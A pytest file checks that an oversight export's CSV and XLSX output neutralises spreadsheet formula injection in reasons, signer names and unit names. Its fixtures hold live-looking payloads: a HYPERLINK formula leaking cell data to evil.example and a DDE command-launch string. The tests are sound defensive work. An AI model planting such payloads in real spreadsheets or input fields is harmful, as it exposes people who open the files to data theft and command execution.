"""An oversight export never carries a live formula and never breaks a row: a hostile
reason, unit name or signer's name stays the text it was; points stay numbers."""

from __future__ import annotations

import csv
import zipfile

import pytest
from openpyxl import load_workbook

from interfaces.cli import oversight_cmd
from interfaces.cli import oversight_export as export
from interfaces.cli import oversight_views as views
from interfaces.framework_io.formula_guard import TRIGGERS, csv_cell_text
from projections.schema import OVERSIGHT_KINDS

REASON = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")\n"trích dẫn", dòng 2'
NAME = "@SUM(1,1)"
UNIT_NAME = "+1+cmd|' /C calc'!A0"


def change(**more) -> dict:
    base = {
        "log_index": 42,
        "cycle": "c",
        "unit": "xa-a",
        "unit_name": UNIT_NAME,
        "leaf": "1.1.1",
        "area": "1",
        "kind": "adjustment",
        "round": 1,
        "actor": {"key_id": "pk_x", "name": NAME, "role": "appraiser"},
        "at": "2025-12-01T03:00:00.000000Z",
        "old_value": {"points": "1"},
        "new_value": {"points": "0.25"},
        "old_points": "1",
        "new_points": "0.25",
        "delta": "-0.75",
        "max_points": "1",
        "reason": REASON,
        "evidence_ids": ["ev-1"],
        "deadline": {"kind": "appraisal_due", "due": "2025-12-15T00:00:00Z"},
        "flags": {
            "after_submission": True,
            "after_deadline": False,
            "after_approval": False,
            "after_publication": False,
            "large_deduction": True,
        },
    }
    return {**base, **more}


ROWS = [change(), change(log_index=43, reason="-0.5", delta=None, old_points=None)]


def test_the_csv_keeps_hostile_text_inert_and_each_change_on_one_row(tmp_path):
    path = export.write(
        tmp_path / "o.csv", export.CHANGE_HEADER, export.change_rows(ROWS), export.CHANGE_NUMBERS
    )
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 3 and rows[0] == list(export.CHANGE_HEADER)
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["ly_do"] == "'" + REASON  # the line break and quotes stay inside one cell
    assert csv_cell_text(first["ly_do"]) == REASON
    assert first["nguoi_thuc_hien"] == "'" + NAME and first["ten_don_vi"] == "'" + UNIT_NAME
    assert first["chenh_lech"] == "-0.75"  # a number, not protected
    assert dict(zip(rows[0], rows[2], strict=True))["ly_do"] == "-0.5"
    numbers = {"-0.75", "-0.5"}
    assert not any(c[:1] in TRIGGERS for row in rows for c in row if c and c not in numbers)


def test_the_xlsx_holds_hostile_text_as_text_and_points_as_numbers(tmp_path):
    path = export.write(
        tmp_path / "o.xlsx", export.CHANGE_HEADER, export.change_rows(ROWS), export.CHANGE_NUMBERS
    )
    sheet = load_workbook(path).active
    header = [c.value for c in sheet[1]]
    cells = {name: sheet.cell(2, header.index(name) + 1) for name in header}
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    assert cells["ly_do"].value == REASON and cells["ly_do"].data_type == "s"
    assert cells["ly_do"].quotePrefix and cells["nguoi_thuc_hien"].quotePrefix
    assert cells["chenh_lech"].data_type == "n" and str(cells["chenh_lech"].value) == "-0.75"
    with zipfile.ZipFile(path) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets" in n)
    assert b"<f>" not in xml and b"<f " not in xml


def test_a_summary_exports_as_well(tmp_path):
    rows = [
        {
            "key": "pk_x",
            "name": NAME,
            "role": "appraiser",
            "changes": 5,
            "score_changes": 3,
            "points_deducted": "1.875",
            "points_added": "0",
            "net": "-1.875",
            "flags": {"after_deadline": 1, "after_approval": 1, "after_publication": 1},
        }
    ]
    path = export.write(
        tmp_path / "s.csv",
        export.SUMMARY_HEADER,
        export.summary_rows(rows),
        export.SUMMARY_NUMBERS,
    )
    with path.open(encoding="utf-8-sig", newline="") as handle:
        found = list(csv.reader(handle))
    assert found[1][:4] == ["pk_x", "'" + NAME, "appraiser", "5"] and found[1][7] == "-1.875"


def test_another_suffix_is_refused_with_its_code(tmp_path):
    with pytest.raises(Exception) as e:
        export.write(tmp_path / "o.txt", export.CHANGE_HEADER, [], export.CHANGE_NUMBERS)
    assert getattr(e.value, "code", None) == "unsupported_file_type"


def test_the_table_shows_a_reason_on_one_line_and_names_every_kind():
    text = views.changes_text(
        {"cycle": "c", "total": 1, "offset": 0, "large_share": "0.5", "changes": [change()]}
    )
    line = next(x for x in text.splitlines() if x.strip().startswith("42"))
    assert "thẩm định điều chỉnh" in line and "trừ lớn" in line and " / " in line
    assert len(text.splitlines()) == 5  # head, blank, header, the change, the legend
    assert set(oversight_cmd.KINDS) == set(OVERSIGHT_KINDS) <= set(views.KIND_NAMES)
